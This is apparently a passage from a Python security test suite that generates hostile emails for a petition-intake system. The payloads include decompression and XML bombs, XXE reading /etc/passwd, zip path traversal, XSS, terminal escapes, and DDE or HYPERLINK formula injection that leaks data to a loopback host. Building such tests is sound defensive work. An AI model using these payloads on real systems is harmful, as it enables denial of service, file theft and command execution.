    zdata = b"\x78\xda" + data + struct.pack(">I", adler)
    return pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            _page(),
            _stream(zdata, b"/Filter /FlateDecode "),
            FONT,
        ]
    )


def mime_uuencoded_bomb(n: int) -> bytes:
    import binascii

    data = _pdf_bomb_512m()
    lines = b"".join(binascii.b2a_uu(data[i : i + 45]) for i in range(0, len(data), 45))
    body = (
        b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + BODY.format(n=n).encode()
        + b"\r\n--b\r\nContent-Type: application/pdf; name=form.pdf\r\n"
        b"Content-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 form.pdf\r\n"
        + lines.replace(b"\n", b"\r\n")
        + b"`\r\nend\r\n--b--\r\n"
    )
    return _raw_mail(n, b'Subject: uu\r\nContent-Type: multipart/mixed; boundary="b"\r\n', body)


def mime_tnef(n: int) -> bytes:
    tnef = struct.pack("<IH", 0x223E9F78, 1) + b"\x01" + struct.pack("<II", 0x00069005, 0xFFFFFFF0)
    tnef += bytes(random.Random(5).randrange(256) for _ in range(8192))
    return _attach(n, tnef, "application", "ms-tnef", "winmail.dat")


def mime_rfc822_nested_partial(n: int, depth: int = 500) -> bytes:
    inner = (
        b"From: x@example.org\r\nSubject: part\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: message/partial; id="abc@x"; number=1; total=1000000\r\n\r\n'
        b"Content-Type: text/plain\r\n\r\nx\r\n"
    )
    for level in range(depth):
        inner = (
            b"From: l%d@example.org\r\nSubject: level %d\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: message/rfc822\r\n\r\n" % (level, level) + inner
        )
    body = (
        b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        + BODY.format(n=n).encode()
        + b"\r\n--b\r\nContent-Type: message/rfc822\r\n\r\n"
        + inner
        + b"\r\n--b--\r\n"
    )
    return _raw_mail(n, b'Subject: rfc822\r\nContent-Type: multipart/mixed; boundary="b"\r\n', body)


def mime_evil_charsets(n: int) -> bytes:
    """utf-7 that hides `<script>`, a bytes-only codec (zlib) on a bomb, an unknown codec,
    a text transform (rot13) and a 64 KB charset name."""
    bomb = zlib.compress(bytes(64 * MIB), 9)

    def part(charset: str, payload: bytes, cte: str = "base64") -> bytes:
        encoded = base64.encodebytes(payload) if cte == "base64" else payload
        return (
            b'--b\r\nContent-Type: text/plain; charset="' + charset.encode() + b'"\r\n'
            b"Content-Transfer-Encoding: " + cte.encode() + b"\r\n\r\n" + encoded + b"\r\n"
        )

    body = (
        part("utf-8", BODY.format(n=n).encode())
        + part("utf-7", "ชื่อ-นามสกุล: +ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n".encode(), "7bit")
        + part("zlib_codec", bomb)
        + part("x-evil-unknown", b"\xff\xfe\x00")
        + part("rot13", b"anzr: k")
        + part("uu_codec", b"begin 644 x\r\n")
        + part("x" * 65536, b"hello")
        + b"--b--\r\n"
    )
    subject = (
        b"Subject: =?utf-7?q?+ADw-img src=x onerror=alert(1)+AD4-?= =?zlib_codec?b?"
        + (base64.b64encode(zlib.compress(bytes(8 * MIB))))
        + b"?=\r\n"
    )
    return _raw_mail(n, subject + b'Content-Type: multipart/mixed; boundary="b"\r\n', body)


# --- HTML ----------------------------------------------------------------------------


def _html_mail(n: int, html: str) -> bytes:
    mail = _mail(n, "คำร้อง HTML")
    mail.set_content(html, subtype="html", cte="base64")
    return bytes(mail)


def html_nested_tables(n: int) -> bytes:
    depth = 10_000
    return _html_mail(
        n,
        "<table><tr><td>" * depth + "ชื่อ-นามสกุล: ผู้ทดสอบ" + "</td></tr></table>" * depth,
    )


def html_numeric_entities(n: int) -> bytes:
    return _html_mail(n, "<p>ชื่อ-นามสกุล: " + "&#3585;&#x200d;" * 300_000 + "</p>")


def html_style_and_data_uri(n: int) -> bytes:
    style = "<style>" + "a{color:red}" * 300_000 + "</style>"
    uri = base64.b64encode(png_declared_huge()).decode()
    big = base64.b64encode(png_near_pillow_limit()).decode()
    return _html_mail(
        n,
        style + f'<img src="data:image/png;base64,{uri}"><img src="data:image/png;base64,{big}">'
        "<p>ชื่อ-นามสกุล: ผู้ทดสอบ</p>",
    )


def html_remote_refs(bait: Bait, n: int) -> bytes:
    url = f"http://127.0.0.1:{bait.port}"
    return _html_mail(
        n,
        f'<!DOCTYPE html SYSTEM "{url}/html.dtd"><html><head>'
        f'<link rel="stylesheet" href="{url}/x.css">'
        f'<meta http-equiv="refresh" content="0;url={url}/r">'
        f'<base href="{url}/"></head><body background="{url}/bg.png">'
        f'<img src="{url}/pixel.png"><iframe src="file:///etc/passwd"></iframe>'
        f'<object data="{url}/o"></object><p>ชื่อ-นามสกุล: ผู้ทดสอบ</p></body></html>',
    )


# --- text, names, formulas -----------------------------------------------------------


def text_one_huge_line(n: int) -> bytes:
    mail = _mail(n, body="")
    mail.set_content("ชื่อ-นามสกุล: " + "ก" * (5 * MIB), cte="8bit")
    return bytes(mail)


def text_zero_width_joiners(n: int) -> bytes:
    label = "\u200d".join("ชื่อ-นามสกุล") + ": "
    mail = _mail(n, body="")
    mail.set_content(label + "\u200d" * 3_000_000 + "ผู้ทดสอบ\n" + BODY.format(n=n), cte="base64")
    return bytes(mail)


ESC = "\x1b]0;owned\x07\x1b[2J\x1b[31m"
SCRIPT = '<script>alert("xss")</script><img src=x onerror=alert(1)>'


def names_hostile(n: int) -> bytes:
    """Terminal escapes and script in the subject, the sender's name and a file name."""
    mail = EmailMessage()
    mail["From"] = f"{ESC}{SCRIPT} <attacker.{n}@example.org>"
    mail["To"] = "saraban@example.go.th"
    mail["Subject"] = f"คำร้องทั่วไป {ESC}{SCRIPT}"
    mail["Message-ID"] = f"<hostile2-names-{n}@example.org>"
    mail.set_content(
        f"ชื่อ-นามสกุล: {SCRIPT}\nที่อยู่: {ESC}บ้านเลขที่ 1\nรายละเอียด: HOSTILEMARK{n} {SCRIPT}\n"
    )
    mail.add_attachment(
        b"hello",
        maintype="text",
        subtype="plain",
        filename=f"{ESC}{SCRIPT}../../etc/passwd.txt",
    )
    return bytes(mail)


FORMULAS = (
    '=HYPERLINK("http://127.0.0.1/?leak="&A2,"ดูคำร้อง")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2;=cmd|'/c notepad'!A1",
)


def formula_injection(n: int) -> bytes:
    """Values an export would hand to Excel as formulas (DDE, HYPERLINK)."""
    mail = EmailMessage()
    mail["From"] = f'"{FORMULAS[1]}" <attacker.{n}@example.org>'
    mail["To"] = "saraban@example.go.th"
    mail["Subject"] = f"{FORMULAS[0]} คำร้องทั่วไป"
    mail["Message-ID"] = f"<hostile2-formula-{n}@example.org>"
    mail.set_content(
        f"ชื่อ-นามสกุล: {FORMULAS[0]}\n"
        f"ที่อยู่: {FORMULAS[2]}\n"
        f"เรื่อง: {FORMULAS[3]}\n"
        f"รายละเอียด: {FORMULAS[4]}\n"
        f"อีเมล: attacker.{n}@example.org\n"
        "โทรศัพท์: =0812345678\n"
    )
    mail.add_attachment(
        b"%PDF-1.4\n", maintype="application", subtype="pdf", filename="=cmd|' /C calc'!A0.pdf"
    )
    return bytes(mail)


# --- zip archives --------------------------------------------------------------------

SMALL_PDF = pdf_from_objects(
    [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _page(),
        _stream(TEXT),
        FONT,
    ]
)


def zip_traversal_symlink(bait: Bait) -> bytes:
    """Entries that escape the folder, an absolute path, and a symlink to the secret."""
    symlink = _member("form.txt", str(bait.secret_path).encode(), zipfile.ZIP_STORED)
    passwd = _member("passwd.txt", b"/etc/passwd", zipfile.ZIP_STORED)
    return _zip(
        [
            _member(f"../../../../../../../../tmp/PWNED-{bait.token}.pdf", SMALL_PDF),
            _member(f"/tmp/PWNED-{bait.token}-abs.pdf", SMALL_PDF),
            _member(f"..\\..\\PWNED-{bait.token}-win.pdf", SMALL_PDF),
            Member(
                symlink.name,
                symlink.data,
                symlink.crc,
                symlink.size,
                zipfile.ZIP_STORED,
                0o120777 << 16,
            ),
            Member(
                passwd.name,
                passwd.data,
                passwd.crc,
                passwd.size,
                zipfile.ZIP_STORED,
                0o120777 << 16,
            ),
        ]
    )


def zip_nested(depth: int = 50) -> bytes:
    data = _zip([_member("form.pdf", SMALL_PDF)])
    for level in range(depth):
        data = _zip([_member(f"level{level}.zip", data, zipfile.ZIP_STORED)])
    return data


def zip_encrypted_and_repeated() -> bytes:
    """An entry flagged encrypted, then one entry listed 5,000 times in the central directory,
    each copy inflating 32 MiB (the local header is shared)."""
    data, crc = _deflate_repeated(b"", bytes(16 * MIB), 2, b"")
    encrypted = _member("secret.pdf", SMALL_PDF)
    return _zip(
        [
            Member(encrypted.name, encrypted.data, encrypted.crc, encrypted.size, flags=0x1),
            *([Member("form.pdf", data, crc, 32 * MIB)]),
        ],
        central_repeat=1,
    ) + _zip([Member("form.pdf", data, crc, 32 * MIB)], central_repeat=5000)


# --- the set -------------------------------------------------------------------------


def _plain(build: Callable[[int], bytes]) -> Callable[[Bait, int], bytes]:
    return lambda _bait, n: build(n)


def _file(
    data: Callable[[], bytes], maintype: str, subtype: str, filename: str
) -> Callable[[Bait, int], bytes]:
    return lambda _bait, n: _attach(n, data(), maintype, subtype, filename)


def _bait_file(
    data: Callable[[Bait], bytes], maintype: str, subtype: str, filename: str
) -> Callable[[Bait, int], bytes]:
    return lambda bait, n: _attach(n, data(bait), maintype, subtype, filename)


PDF = ("application", "pdf")

HOSTILE: list[Hostile] = [
    # office packages
    Hostile(
        "docx_member_bomb",
        "1 GiB inflated from one docx member exhausts memory",
        _file(docx_member_bomb, *DOCX, "form.docx"),
    ),
    Hostile(
        "xlsx_one_bomb_200_sheets",
        "200 sheets share one 256 MiB part: 50 GiB of parsing",
        _file(xlsx_one_bomb_many_sheets, *XLSX, "form.xlsx"),
    ),
    Hostile(
        "docx_size_lie",
        "declared 100 bytes, inflates 512 MiB past a size check",
        _file(docx_size_lie, *DOCX, "form.docx"),
    ),
    Hostile(
        "docx_60k_entries",
        "60,000 zip entries: the directory alone costs time and memory",
        _file(docx_many_entries, *DOCX, "form.docx"),
    ),
    Hostile(
        "docx_billion_laughs",
        "entity expansion to gigabytes in lxml",
        _file(docx_billion_laughs, *DOCX, "form.docx"),
    ),
    Hostile(
        "xlsx_billion_laughs",
        "entity expansion in shared strings",
        _file(xlsx_billion_laughs, *XLSX, "form.xlsx"),
    ),
    Hostile(
        "docx_xxe_file",
        "/etc/passwd and a host secret read into the case's fields",
        _bait_file(docx_xxe_file, *DOCX, "form.docx"),
    ),
    Hostile(
        "docx_xxe_http",
        "an external DTD and entity fetched from the loopback port",
        _bait_file(docx_xxe_http, *DOCX, "form.docx"),
    ),
    Hostile(
        "docx_xinclude",
        "XInclude pulls a host file and a URL into the text",
        _bait_file(docx_xinclude, *DOCX, "form.docx"),
    ),
    Hostile(
        "xlsx_xxe",
        "XXE in sharedStrings and an external DTD on the workbook",
        _bait_file(xlsx_xxe, *XLSX, "form.xlsx"),
    ),
    Hostile(
        "xlsx_external_link",
        "an external link to /etc/passwd and a WEBSERVICE formula",
        _bait_file(xlsx_external_link, *XLSX, "form.xlsx"),
    ),
    Hostile(
        "docx_nested_tables_5000",
        "recursion past the stack in a table walk",
        _file(docx_deep_nesting, *DOCX, "form.docx"),
    ),
    Hostile(
        "docx_million_rows",
        "a million-row table held as python objects",
        _file(docx_million_rows, *DOCX, "form.docx"),
    ),
    Hostile(
        "xlsx_dimension_XFD1048576",
        "iterating 17 billion empty cells",
        _file(xlsx_huge_dimension, *XLSX, "form.xlsx"),
    ),
    Hostile(
        "xlsx_shared_strings_bomb",
        "3 million shared strings held in memory",
        _file(xlsx_shared_strings_bomb, *XLSX, "form.xlsx"),
    ),
    # images
    Hostile(
        "png_60000x60000",
        "a 3.6 Gpx buffer allocated for OCR",
        _file(png_declared_huge, "image", "png", "scan.png"),
    ),
    Hostile(
        "png_81mpx_white",
        "just under Pillow's bomb check: minutes of tesseract",
        _file(png_near_pillow_limit, "image", "png", "scan.png"),
    ),
    Hostile(
        "png_ztxt_bomb",
        "a text chunk inflating to 256 MiB",
        _file(png_ztxt_bomb, "image", "png", "photo.png"),
    ),
    Hostile(
        "tiff_1500_pages",
        "OCR of every page of a 1,500-page TIFF",
        _file(tiff_many_pages, "image", "tiff", "scan.tif"),
    ),
    Hostile(
        "gif_3000_frames",
        "every frame decoded and OCR'd",
        _file(gif_many_frames, "image", "gif", "photo.gif"),
    ),
    Hostile(
        "jpeg_65500_named_png",
        "typing by name; a 4 Gpx JPEG decoded",
        _file(jpeg_huge_named_png, "image", "png", "scan.png"),
    ),
    # PDFs
    Hostile(
        "pdf_kids_loop",
        "a page tree that contains itself: endless walk",
        _file(pdf_kids_loop, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_xref_prev_loop",
        "a trailer /Prev chain that loops",
        _file(pdf_xref_prev_loop, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_length_self_reference",
        "a stream /Length that refers to itself",
        _file(pdf_length_self_reference, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_length_lie",
        "/Length 99,999,999,999 allocated up front",
        _file(pdf_length_lie, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_10000_pages",
        "every page's text read: minutes of pdfminer",
        _file(pdf_ten_thousand_pages, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_2_5M_path_ops",
        "one python object per path, under the stream cap",
        _file(pdf_million_path_ops, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_nested_arrays_100k",
        "recursion in a PDF object parser",
        _file(pdf_nested_arrays, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_jbig2_jpx_inline",
        "image decoders handed 3.6 Gpx and garbage",
        _file(pdf_jbig2_jpx_inline, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_active_content",
        "JavaScript/Launch kept live in what staff download",
        _bait_file(pdf_active_content, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_encrypted",
        "a password-protected PDF breaks the stage",
        _file(pdf_encrypted, *PDF, "form.pdf"),
    ),
    Hostile(
        "pdf_zip_polyglot",
        "a PDF that is also a zip with an inflate-size lie",
        _file(pdf_zip_polyglot, *PDF, "form.pdf"),
    ),
    # MIME
    Hostile(
        "mime_50000_parts",
        "50,000 parts: per-part costs multiply",
        _plain(mime_fifty_thousand_parts),
    ),
    Hostile("mime_10mb_header_line", "a 10 MB Subject in one line", _plain(mime_ten_mb_header)),
    Hostile(
        "mime_120000_header_fields",
        "120,000 header fields, 20,000 Received",
        _plain(mime_hundred_thousand_headers),
    ),
    Hostile(
        "mime_rfc2231_150000_sections",
        "RFC 2231 continuations up to 999999",
        _plain(mime_rfc2231_continuations),
    ),
    Hostile(
        "mime_encoded_words",
        "encoded words nested 25 deep and 100,000 in a header",
        _plain(mime_encoded_words),
    ),
    Hostile(
        "mime_boundary_prefixes_400",
        "each boundary a prefix of the next, 400 deep",
        _plain(mime_boundary_prefixes),
    ),
    Hostile(
        "mime_base64_garbage",
        "base64 with garbage every 4 bytes around an 81 Mpx PNG",
        _plain(mime_base64_garbage),
    ),
    Hostile(
        "mime_uuencoded_pdf_bomb",
        "x-uuencode carries a PDF bomb past base64-only checks",
        _plain(mime_uuencoded_bomb),
    ),
    Hostile("mime_tnef", "a TNEF winmail.dat with a 4 GB attribute length", _plain(mime_tnef)),
    Hostile(
        "mime_rfc822_500_deep_partial",
        "message/rfc822 nested 500 deep, message/partial",
        _plain(mime_rfc822_nested_partial),
    ),
    Hostile(
        "mime_evil_charsets",
        "utf-7 script, zlib_codec bomb, unknown and huge charsets",
        _plain(mime_evil_charsets),
    ),
    # HTML
    Hostile(
        "html_tables_10000_deep",
        "nested tables 10,000 deep in a table-form reader",
        _plain(html_nested_tables),
    ),
    Hostile("html_600k_entities", "600,000 numeric entities", _plain(html_numeric_entities)),
    Hostile(
        "html_style_and_data_uris",
        "3.6 MB style block, data: URIs of bomb images",
        _plain(html_style_and_data_uri),
    ),
    Hostile(
        "html_remote_refs",
        "server-side fetch of a DTD, stylesheet or image",
        lambda bait, n: html_remote_refs(bait, n),
    ),
    # text and names
    Hostile(
        "text_15mb_line", "one 15 MB line in a line-based form reader", _plain(text_one_huge_line)
    ),
    Hostile(
        "text_3M_zero_width_joiners",
        "3 million ZWJ between a label and its value",
        _plain(text_zero_width_joiners),
    ),
    Hostile(
        "names_escapes_and_script",
        "terminal escapes in logs, script on the clerk's page",
        _plain(names_hostile),
    ),
    Hostile(
        "formula_injection",
        "=HYPERLINK/DDE formulas live in the CSV/XLSX export",
        _plain(formula_injection),
    ),
    # zip archives
    Hostile(
        "zip_traversal_symlink",
        "files written outside the folder, a symlink read",
        _bait_file(zip_traversal_symlink, "application", "zip", "forms.zip"),
    ),
    Hostile(
        "zip_nested_50",
        "an archive in an archive 50 deep",
        _file(zip_nested, "application", "zip", "forms.zip"),
    ),
    Hostile(
        "zip_encrypted_and_repeated",
        "an encrypted entry, one entry listed 5,000 times",
        _file(zip_encrypted_and_repeated, "application", "zip", "forms.zip"),
    ),
]


def hostile_set(bait: Bait, first: int = 100) -> dict[str, bytes]:
    """name -> raw mail, each with its own sender number (and so its own Message-ID)."""
    return {h.name: h.build(bait, first + i) for i, h in enumerate(HOSTILE)}
